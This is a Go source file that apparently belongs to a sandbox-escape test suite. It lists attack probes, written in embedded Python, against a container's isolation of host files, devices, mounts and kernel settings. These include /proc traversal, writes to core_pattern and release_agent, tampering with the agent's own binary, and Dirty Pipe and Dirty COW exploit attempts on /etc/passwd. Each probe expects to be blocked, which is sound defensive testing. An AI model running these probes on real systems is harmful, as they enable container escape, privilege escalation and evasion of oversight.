package escape

const groupHost = "Files and devices of the host"

// hostFiles go for what the host has.
var hostFiles = []Attack{
	{
		Group: groupHost, Name: "the host's files by their path",
		Does: "opens planted files of the host by their paths, through `/proc/*/root`, `/proc/*/cwd` and many `..`",
		Code: `
tries = []
for path in FACTS["files"]:
    tries += [path, "/.." * 20 + path]
    for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/task/*/root") + ["/proc/self/root", "/proc/thread-self/root"]:
        tries.append(root + path)
    for cwd in glob.glob("/proc/*/cwd") + ["/proc/self/cwd", "/dev/fd/.."]:
        tries.append(cwd + "/.." * 20 + path)
return nothing_or([t for t in tries if canary_in(read(t))])`,
		Want: []string{"nothing found"},
	},
	{
		Group: groupHost, Name: "the host's files through any mount",
		Does: "walks the whole tree and every mount point for the names of planted files",
		Code: `
names = {os.path.basename(p) for p in FACTS["files"]}
found, seen = [], set()
mounts = {line.split()[4] for line in open("/proc/self/mountinfo")}
for top in ["/"] + sorted(mounts):
    for folder, folders, files in os.walk(top):
        if folder in seen or folder.startswith("/proc") or folder.startswith("/sys"):
            folders[:] = []
            continue
        seen.add(folder)
        found += [os.path.join(folder, f) for f in files if f in names]
return nothing_or(found)`,
		Want: []string{"nothing found"},
	},
	{
		Group: groupHost, Name: "the host's files through inherited descriptors",
		Does: "opens `../../…` relative to every descriptor of every process it can see",
		Code: `
found = []
for link in glob.glob("/proc/[0-9]*/fd/*") + ["/proc/self/fd/%d" % n for n in range(256)]:
    for path in FACTS["files"]:
        if canary_in(read(link + "/.." * 20 + path)) or canary_in(read(link + path)):
            found.append(link)
for n in range(1024):
    for path in FACTS["files"]:
        try:
            fd = os.open("../" * 20 + path[1:], os.O_RDONLY, dir_fd=n)
        except OSError:
            continue
        if canary_in(os.read(fd, 4096)):
            found.append("descriptor %d" % n)
        os.close(fd)
return nothing_or(found)`,
		Want: []string{"nothing found"},
	},
	{
		Group: groupHost, Name: "files by handles of inodes",
		Does: "`open_by_handle_at` with guessed handles of the root folders, on every mount",
		Code: `
answers = []
for mount in {line.split()[4] for line in open("/proc/self/mountinfo")}:
    try:
        fd = os.open(mount, os.O_RDONLY)
    except OSError:
        continue
    for inode in (1, 2, 64, 128, 256):
        for kind in (1, 129):
            handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, kind, inode))
            answers.append(call("open_by_handle_at", fd, handle, 0))
    os.close(fd)
return all_of(answers)`,
		Want: []string{"EPERM", "ENOSYS", "ENOTSUP", "EOPNOTSUPP"},
	},
	{
		Group: groupHost, Name: "the agent's program",
		Does: "opens `/proc/1/exe` and the agent's file for writing, and replaces the file",
		Code: `
exe = glob.glob("/opt/caesarion/*") + ["/proc/1/exe"]
found = writable(exe)
for path in exe:
    for change in (lambda: os.rename(path, path + ".old"), lambda: os.unlink(path), lambda: os.chmod(path, 0o777), lambda: os.truncate(path, 0)):
        if err(change) == "WORKED":
            found.append(path)
return "nothing changed" if not found else "CHANGED " + str(found)`,
		Want: []string{"nothing changed"},
	},
	{
		Group: groupHost, Name: "the kernel's switches",
		Does: "opens for writing what makes the host's kernel run a program or change: `core_pattern`, `modprobe`, `uevent_helper`, `release_agent`, `binfmt_misc`, `sysrq-trigger`",
		Code: `
return nothing_or(writable([
    "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/kernel/poweroff_cmd", "/proc/sys/kernel/usermodehelper/bset",
    "/proc/sys/fs/binfmt_misc/register", "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/panic", "/proc/sys/kernel/sysrq", "/proc/sysrq-trigger", "/proc/sys/kernel/ns_last_pid",
    "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run", "/sys/module/printk/parameters/time",
    "/proc/acpi/wakeup", "/proc/timer_stats", "/proc/irq/default_smp_affinity", "/proc/bus/pci", "/proc/scsi/scsi", "/proc/1/oom_score_adj", "/proc/1/uid_map", "/proc/1/gid_map"]
    + glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)
    + glob.glob("/sys/fs/cgroup/**/memory.max", recursive=True) + glob.glob("/sys/fs/cgroup/**/*limit_in_bytes", recursive=True)))`,
		Want: []string{"nothing found"},
	},
	{
		Group: groupHost, Name: "the kernel's memory",
		Does: "reads `/dev/mem`, `/dev/kmem`, `/dev/port`, `/proc/kcore`, `/proc/kmsg`, `/dev/kmsg`, firmware tables, the kernel's own types (which its distribution publishes)",
		Code: `
places = ["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/proc/vmcore", "/dev/nvram", "/dev/cpu/0/msr", "/sys/kernel/debug/tracing/trace"]
places += glob.glob("/sys/firmware/**/*", recursive=True)[:50] + glob.glob("/sys/kernel/btf/*") + glob.glob("/boot/*") + glob.glob("/lib/modules/*/*")
found = [p for p in places if read(p)]
for line in open("/proc/kallsyms") if os.path.exists("/proc/kallsyms") else []:
    if not line.startswith("0000000000000000"):
        found.append("/proc/kallsyms")
        break
return nothing_or(found)`,
		Want: []string{"nothing found"}, Node: []string{"FOUND /sys/kernel/btf/vmlinux"},
	},
	{
		Group: groupHost, Name: "devices that are there",
		Does: "opens every device file; makes an interface by `/dev/net/tun` and a file system by `/dev/fuse`",
		Code: `
harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console", "fuse", "tun"} # gVisor's own fuse and tun do nothing without a capability
found = []
for folder, folders, files in os.walk("/dev"):
    for f in files:
        path = os.path.join(folder, f)
        try:
            mode = os.lstat(path).st_mode
        except OSError:
            continue
        if (stat.S_ISBLK(mode) or stat.S_ISCHR(mode) and f not in harmless and not folder.startswith("/dev/pts")) and err(lambda: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))) == "WORKED":
            found.append(path)
try:
    fd = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(fd, 0x400454ca, struct.pack("16sH22s", b"evil0", 0x1001, b"")) # TUNSETIFF
    found.append("an interface")
except OSError:
    pass
try:
    fd = os.open("/dev/fuse", os.O_RDWR)
    if sys_call("mount", b"fuse", b"/workspace", b"fuse", 0, b"fd=%d,rootmode=40000,user_id=1000,group_id=1000" % fd) == 0:
        found.append("a file system")
except OSError:
    pass
return nothing_or(found)`,
		Want: []string{"nothing found"},
	},
	{
		Group: groupHost, Name: "device files of its own",
		Does: "`mknod` of the host's disk, memory and network devices, as block and character devices",
		Code: `
answers = []
for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 259, 0), (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 10, 200), (stat.S_IFCHR, 10, 232)):
    for folder in ("/workspace", "/tmp", "/dev", "/dev/shm"):
        answers.append(err(lambda: os.mknod(folder + "/device", kind | 0o666, os.makedev(major, minor))))
return all_of(a for a in answers if a not in ("EACCES", "EROFS", "ENOENT"))`,
		Want: []string{"EPERM"},
	},
	{
		Group: groupHost, Name: "mounts",
		Does: "`mount` of proc, sysfs, tmpfs, cgroup, overlay, 9p, the host's disks and a bind of `/`; `umount`; a writable remount of `/`",
		Code: `
answers = []
os.makedirs("/workspace/mnt", exist_ok=True)
for source, kind in (("proc", "proc"), ("sysfs", "sysfs"), ("tmpfs", "tmpfs"), ("cgroup", "cgroup"), ("none", "cgroup2"), ("overlay", "overlay"), ("host", "9p"), ("/dev/sda1", "ext4"), ("/dev/vda1", "ext4"), ("debugfs", "debugfs"), ("securityfs", "securityfs"), ("binfmt_misc", "binfmt_misc")):
    answers.append(call("mount", source.encode(), b"/workspace/mnt", kind.encode(), 0, b""))
for flags in (4096, 4096 | 16384, 32, 32 | 4096):
    answers.append(call("mount", b"/", b"/workspace/mnt", b"", flags, b""))
answers.append(call("mount", b"", b"/", b"", 1 << 18, b""))
for flags in (0, 1, 2):
    answers.append(call("umount2", b"/proc", flags))
return all_of(answers)`,
		Want: []string{"EPERM"},
	},
	{
		Group: groupHost, Name: "mounts by the newer calls",
		Does: "`fsopen`, `open_tree`, `fsmount`, `move_mount`, `mount_setattr`",
		Code: `
answers = [call("fsopen", b"proc", 0), call("open_tree", -100, b"/", 1), call("fsmount", 0, 0, 0), call("move_mount", -100, b"/", -100, b"/workspace", 0)]
attr = ctypes.create_string_buffer(32)
answers.append(call("mount_setattr", -100, b"/", 0, attr, 32))
return all_of(answers)`,
		Want: []string{"ENOSYS", "EPERM", "ENOSYS, EPERM"},
	},
	{
		Group: groupHost, Name: "another root",
		Does: "`chroot` and `pivot_root`",
		Code: `
os.makedirs("/workspace/mnt", exist_ok=True)
return all_of([call("chroot", b"/workspace/mnt"), call("pivot_root", b"/workspace/mnt", b"/workspace/mnt")])`,
		Want: []string{"EPERM"},
	},
	{
		Group: groupHost, Name: "a mount in a user namespace of its own",
		Does: "becomes root of a user and mount namespace, mounts what it can there, and looks for planted files and devices",
		Code: `
r = sys_call("unshare", 0x10000000 | 0x20000)
if isinstance(r, str):
    return "no namespace: " + r
for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", "0 1000 1"), ("/proc/self/gid_map", "0 1000 1")):
    err(lambda: os.write(os.open(path, os.O_WRONLY), text.encode()))
os.makedirs("/tmp/ns", exist_ok=True)
found = []
for source, kind in (("proc", "proc"), ("sysfs", "sysfs"), ("tmpfs", "tmpfs"), ("/dev/vda1", "ext4"), ("/dev/sda1", "ext4"), ("devtmpfs", "devtmpfs"), ("cgroup", "cgroup"), ("none", "cgroup2")):
    if sys_call("mount", source.encode(), b"/tmp/ns", kind.encode(), 0, b"") != 0:
        continue
    for path in FACTS["files"]:
        found += [t for t in ("/tmp/ns" + path, "/tmp/ns/1/root" + path, "/tmp/ns/1/cwd" + "/.." * 9 + path) if canary_in(read(t))]
    found += writable(["/tmp/ns/sysrq-trigger", "/tmp/ns/sys/kernel/core_pattern", "/tmp/ns/kernel/uevent_helper", "/tmp/ns/release_agent"])
    sys_call("umount2", b"/tmp/ns", 2)
for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 1, 1)):
    if err(lambda: os.mknod("/tmp/ns-device", kind | 0o666, os.makedev(major, minor))) == "WORKED":
        if read("/tmp/ns-device"):
            found.append("device %d:%d" % (major, minor))
        os.unlink("/tmp/ns-device")
return nothing_or(found)`,
		Want: []string{"nothing found", "no namespace: EPERM"},
	},
	{
		Group: groupHost, Name: "a file that is read-only, through a pipe",
		Does: "`splice` of a file of the image into a pipe, and a write into the pipe (CVE-2022-0847)",
		Code: `
target = "/etc/passwd"
before = open(target, "rb").read()
fd = os.open(target, os.O_RDONLY)
r, w = os.pipe()
size = fcntl.fcntl(w, 1032) # F_GETPIPE_SZ
os.write(w, b"x" * size)
os.read(r, size)
offset = ctypes.c_longlong(0)
sys_call("splice", fd, ctypes.byref(offset), w, None, 1, 0)
err(lambda: os.write(w, b"HACKED"))
return "as it was" if open(target, "rb").read() == before else "CHANGED"`,
		Want: []string{"as it was"},
	},
	{
		Group: groupHost, Name: "a file that is read-only, through its own memory",
		Does: "writes to a private map of a file of the image by `/proc/self/mem` while another thread drops the pages (CVE-2016-5195)",
		Code: `
target = "/etc/passwd"
before = open(target, "rb").read()
fd = os.open(target, os.O_RDONLY)
libc.mmap.restype = ctypes.c_void_p
at = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
end = time.monotonic() + 2
def drop():
    while time.monotonic() < end:
        libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(4096), 4)
thread = threading.Thread(target=drop)
thread.start()
with open("/proc/self/mem", "r+b", buffering=0) as mem:
    while time.monotonic() < end:
        try:
            mem.seek(at)
            mem.write(b"HACKED")
        except OSError:
            pass
thread.join()
return "as it was" if open(target, "rb").read() == before else "CHANGED"`,
		Want: []string{"as it was"},
	},
	{
		Group: groupHost, Name: "links to files of others",
		Does: "hard links to files that it does not own",
		Code: `
return all_of(err(lambda: os.link(p, "/workspace/linked")) for p in ("/etc/shadow", "/etc/passwd", "/usr/bin/env", "/opt/caesarion/caesarion-agent"))`,
		Want: []string{"EPERM", "EXDEV", "EPERM, EXDEV", "EACCES, EPERM"},
	},
}
